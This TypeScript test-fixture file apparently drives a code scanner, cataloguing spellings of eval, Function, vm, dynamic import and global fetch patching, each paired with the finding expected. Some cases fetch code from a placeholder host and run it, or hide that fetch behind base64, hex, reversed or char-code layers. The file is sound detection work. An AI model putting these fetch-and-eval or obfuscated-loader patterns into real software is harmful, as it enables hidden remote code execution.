/** Ways to run text as code, to load a module by a computed name, and to patch what others call. */
import type { Expected, Spelling } from './parts.js'
import { b64, codes, free, giving, reversed } from './system-frame.js'

const CODE = 'globalThis.z = 1 + 1'
const evaluates = (origin: string, which: string): Expected[] => [{ kind: 'code.eval', value: `${origin} ${which}` }]
const constant = (which: string) => giving.bind(null, () => evaluates('constant', which))
const of = (origin: string, which: string) => giving.bind(null, () => evaluates(origin, which))

/** Runs a decoded layer that reaches a host: the layer itself must be read. A minifier may decode it before. */
const layer = giving.bind(null, (m) => [
  { kind: 'net.host', value: m.h },
  { kind: 'code.eval', value: /^(decoded|constant) / },
])
const inner = (h: string): string => `fetch('https://${h}/l')`

export const evaluated: readonly Spelling[] = [
  ['eval', constant('eval')(() => ({ handler: `eval('${CODE}')` }))],
  ['indirect eval', constant('eval')(() => ({ handler: `(0, eval)('${CODE}')` }))],
  ['alias of eval', constant('eval')((m) => ({ top: `const ${m.f} = eval`, handler: `${m.f}('${CODE}')` }))],
  ['globalThis.eval', constant('eval')(() => ({ handler: `globalThis.eval('${CODE}')` }))],
  [`globalThis['ev' + 'al']`, constant('eval')(() => ({ handler: `globalThis['ev' + 'al']('${CODE}')` }))],
  ['global of a decoded name', constant('eval')(() => ({ handler: `globalThis[atob('${b64('eval')}')]('${CODE}')` }))],
  ['Function', constant('Function')(() => ({ handler: `Function('${CODE}')()` }))],
  ['new Function', constant('Function')(() => ({ handler: `new Function('${CODE}')()` }))],
  [
    'new Function with parameters',
    of('argument', 'Function')(() => ({ handler: `new Function('a', 'b', body)(1, 2)` })),
  ],
  ['new globalThis.Function', constant('Function')(() => ({ handler: `new globalThis.Function('${CODE}')()` }))],
  ['constructor.constructor', constant('Function')(() => ({ handler: `({}).constructor.constructor('${CODE}')()` }))],
  ['constructor of a function', constant('Function')(() => ({ handler: `(() => {}).constructor('${CODE}')()` }))],
  [
    'constructor of an array method',
    constant('Function')(() => ({ handler: `[]['filter']['constructor']('${CODE}')()` })),
  ],
  [
    'constructor of an async function',
    constant('Function')((m) => ({
      top: `const ${m.x} = Object.getPrototypeOf(async () => {}).constructor`,
      handler: `await new ${m.x}('${CODE}')()`,
    })),
  ],
  ['Reflect.construct', constant('Function')(() => ({ handler: `Reflect.construct(Function, ['${CODE}'])()` }))],
  [
    'vm.runInNewContext',
    constant('vm')(() => ({ imports: `import vm from 'node:vm'`, handler: `vm.runInNewContext('${CODE}', {})` })),
  ],
  [
    'vm.runInThisContext, named',
    constant('vm')(() => ({
      imports: `import { runInThisContext } from 'vm'`,
      handler: `runInThisContext('${CODE}')`,
    })),
  ],
  [
    'vm.Script',
    constant('vm')(() => ({
      imports: `import * as vm from 'node:vm'`,
      handler: `new vm.Script('${CODE}').runInThisContext()`,
    })),
  ],
  [
    'vm.compileFunction',
    constant('vm')(() => ({
      imports: `import { compileFunction } from 'node:vm'`,
      handler: `compileFunction('${CODE}')()`,
    })),
  ],
  ['setTimeout of a string', constant('timer')(() => ({ handler: `setTimeout('${CODE}', 10)` }))],
  [
    'setInterval of a string',
    constant('timer')((m) => ({ top: `const ${m.x} = '${CODE}'`, handler: `globalThis.setInterval(${m.x}, 1000)` })),
  ],
  [
    'import of a data URL',
    giving(
      () => [{ kind: 'module.dynamic', value: /data:|\{\}/ }],
      () => ({ handler: `await import('data:text/javascript,' + body)` }),
    ),
  ],
  [
    'import of a data URL, decoded',
    giving(
      (m) => [{ kind: 'net.host', value: m.h }],
      (m) => ({ handler: `await import('data:text/javascript;base64,${b64(inner(m.h))}')` }),
    ),
  ],
  ['an argument', of('argument', 'eval')(() => ({ handler: 'eval(body)' }))],
  [
    'an argument, vm',
    of('argument', 'vm')(() => ({ imports: `import vm from 'node:vm'`, handler: 'vm.runInNewContext(body, {})' })),
  ],
  ['the environment', of('env', 'eval')((m) => ({ handler: `eval(process.env.${m.n.variable()})` }))],
  [
    'a file',
    of(
      'file',
      'eval',
    )(() => ({
      imports: `import { readFileSync } from 'node:fs'`,
      handler: `eval(readFileSync('/tmp/x.js', 'utf8'))`,
    })),
  ],
  ['the network', of('net', 'eval')((m) => ({ handler: `eval(await (await fetch('https://${m.h}/x.js')).text())` }))],
  [
    'the network, then',
    of(
      'net',
      'Function',
    )((m) => ({
      handler: `fetch('https://${m.h}/x.js').then((r) => r.text()).then((${m.x}) => new Function(${m.x})())`,
    })),
  ],
  [
    'the network, axios',
    of(
      'net',
      'Function',
    )((m) => ({
      imports: `import axios from 'axios'`,
      handler: `const { data: ${m.x} } = await axios.get('https://${m.h}/x')\nFunction('require', ${m.x})(null)`,
    })),
  ],
  [
    'the network, a field',
    of(
      'net',
      'eval',
    )((m) => ({
      handler: `const ${m.x} = await fetch('https://${m.h}/x').then((r) => r.json())\neval(${m.x}.payload.code)`,
    })),
  ],
  [
    'the network, a stream',
    of(
      'net',
      'eval',
    )((m) => ({
      imports: `import https from 'node:https'`,
      handler: `https.get('https://${m.h}/x', (response) => {\n  let ${m.x} = ''\n  response.on('data', (chunk) => (${m.x} += chunk))\n  response.on('end', () => eval(${m.x}))\n})`,
    })),
  ],
  [
    'the network, the catch of an error',
    of(
      'net',
      'Function',
    )((m) => ({
      imports: `import axios from 'axios'`,
      handler: `axios.get('https://${m.h}/x').catch((error) => {\n  new Function('require', error.response.data)(null)\n})`,
    })),
  ],
  ['base64 layer', layer((m) => ({ handler: `eval(Buffer.from('${b64(inner(m.h))}', 'base64').toString())` }))],
  [
    'base64 layer, Function',
    layer((m) => ({ top: `const ${m.x} = '${b64(inner(m.h))}'`, handler: `new Function(atob(${m.x}))()` })),
  ],
  [
    'hexadecimal layer',
    layer((m) => ({
      handler: `Function(Buffer.from('${Buffer.from(inner(m.h)).toString('hex')}', 'hex').toString('utf8'))()`,
    })),
  ],
  [
    'reversed layer',
    layer((m) => ({ handler: `eval(${JSON.stringify(reversed(inner(m.h)))}.split('').reverse().join(''))` })),
  ],
  ['char code layer', layer((m) => ({ handler: `eval(String.fromCharCode(${codes(inner(m.h))}))` }))],
  ['two layers', layer((m) => ({ handler: `eval(atob('${b64(`eval(atob('${b64(inner(m.h))}'))`)}'))` }))],
  [
    'layer in another file',
    layer((m) => ({
      imports: `import { ${m.x} } from './${m.y}.js'`,
      files: { [`src/${m.y}.js`]: `export const ${m.x} = '${b64(inner(m.h))}'\n` },
      handler: `eval(Buffer.from(${m.x}, 'base64').toString('utf8'))`,
    })),
  ],
  [
    'layer in vm',
    layer((m) => ({
      imports: `import vm from 'node:vm'`,
      handler: `vm.runInThisContext(Buffer.from('${b64(inner(m.h))}', 'base64').toString())`,
    })),
  ],
]

export const commonjsEvaluated: readonly Spelling[] = [
  [
    'module._compile',
    giving(
      () => [{ kind: 'code.eval', value: /^argument / }],
      () => ({ commonjs: true, brokenIn: ['rolldown esm'], handler: `module._compile(body, 'x.js')` }),
    ),
  ],
  [
    'Module, constructed',
    giving(
      () => [{ kind: 'code.eval', value: /^argument / }],
      (m) => ({
        commonjs: true,
        imports: `const Module = require('module')`,
        handler: `const ${m.x} = new Module('x')\n${m.x}._compile(body, '')`,
      }),
    ),
  ],
  [
    'module.constructor',
    giving(
      () => [{ kind: 'code.eval', value: /^argument / }],
      (m) => ({
        commonjs: true,
        brokenIn: ['rolldown esm'],
        handler: `const ${m.x} = new module.constructor()\n${m.x}['_comp' + 'ile'](body, '')`,
      }),
    ),
  ],
  [
    'require of an argument',
    giving(
      () => [{ kind: 'module.dynamic', value: '{}' }],
      () => ({ commonjs: true, handler: 'require(body)' }),
    ),
  ],
  [
    'require of a template',
    giving(
      () => [{ kind: 'module.dynamic', value: /\{\}/ }],
      () => ({ commonjs: true, handler: `require(\`./plugins/\${body}.js\`)` }),
    ),
  ],
]

export const patched: readonly Spelling[] = [
  [
    'globalThis.fetch',
    giving(
      () => [{ kind: 'global.patch', value: 'globalThis.fetch' }],
      () => ({ start: `const original = globalThis.fetch\nglobalThis.fetch = (...args) => original(...args)` }),
    ),
  ],
  [
    `globalThis['fetch']`,
    giving(
      () => [{ kind: 'global.patch', value: 'globalThis.fetch' }],
      (m) => ({ start: `const ${m.x} = fetch\nglobalThis['fe' + 'tch'] = async (...args) => ${m.x}(...args)` }),
    ),
  ],
  [
    'defineProperty',
    giving(
      () => [{ kind: 'global.patch', value: 'globalThis.fetch' }],
      (m) => ({
        start: `const ${m.x} = fetch\nObject.defineProperty(globalThis, 'fetch', { value: (...args) => ${m.x}(...args) })`,
      }),
    ),
  ],
  [
    'prototype',
    giving(
      () => [{ kind: 'global.patch', value: 'XMLHttpRequest.prototype.send' }],
      (m) => ({
        start: `const ${m.x} = XMLHttpRequest.prototype.send\nXMLHttpRequest.prototype.send = function (data) {\n  return ${m.x}.call(this, data)\n}`,
      }),
    ),
  ],
  [
    'import of a computed name',
    giving(
      () => [{ kind: 'module.dynamic', value: '{}' }],
      () => ({ handler: 'await import(body)' }),
    ),
  ],
]

export const notEvaluated: readonly Spelling[] = [
  [
    'setTimeout of a function',
    () => ({
      handler: `setTimeout(() => console.error(body), 10)\nsetTimeout(console.error, 10, 'done')`,
      absent: [{ kind: 'code.eval', value: /./ }],
    }),
  ],
  [
    'eval of another object',
    (n) => {
      const m = free(n)
      return {
        imports: `import { createClient } from 'redis'`,
        top: `const ${m.x} = createClient()`,
        handler: `await ${m.x}.eval('return 1', { keys: [] })`,
        absent: [{ kind: 'code.eval', value: /./ }],
      }
    },
  ],
  [
    'page.evaluate',
    (n) => {
      const m = free(n)
      return {
        imports: `import { chromium } from 'playwright'`,
        handler: `const ${m.x} = await (await chromium.launch()).newPage()\nawait ${m.x}.evaluate(() => document.title)\nawait ${m.x}.$eval('h1', (e) => e.textContent)`,
        absent: [{ kind: 'code.eval', value: /./ }],
      }
    },
  ],
  [
    'Function as a type',
    (n) => {
      const m = free(n)
      return {
        handler: `if (body instanceof Function || Object.prototype.toString.call(body) === '[object Function]') return\nconst ${m.x} = Function.prototype.toString\nvoid ${m.x}`,
        absent: [{ kind: 'code.eval', value: /./ }],
      }
    },
  ],
  [
    'own function of that name',
    () => ({
      files: { 'src/calc.js': `export function evaluate(tree) {\n  return tree.reduce((a, b) => a + b, 0)\n}\n` },
      imports: `import { evaluate } from './calc.js'`,
      handler: `evaluate([1, 2])`,
      absent: [{ kind: 'code.eval', value: /./ }],
    }),
  ],
  [
    'import of a constant',
    () => ({
      handler: `const { readFile } = await import('node:fs/promises')\nvoid readFile`,
      absent: [
        { kind: 'module.dynamic', value: /./ },
        { kind: 'code.eval', value: /./ },
      ],
    }),
  ],
  [
    'polyfill',
    () => ({
      start: `if (typeof globalThis.fetch === 'undefined') console.error('no fetch')`,
      absent: [{ kind: 'global.patch', value: /./ }],
    }),
  ],
]
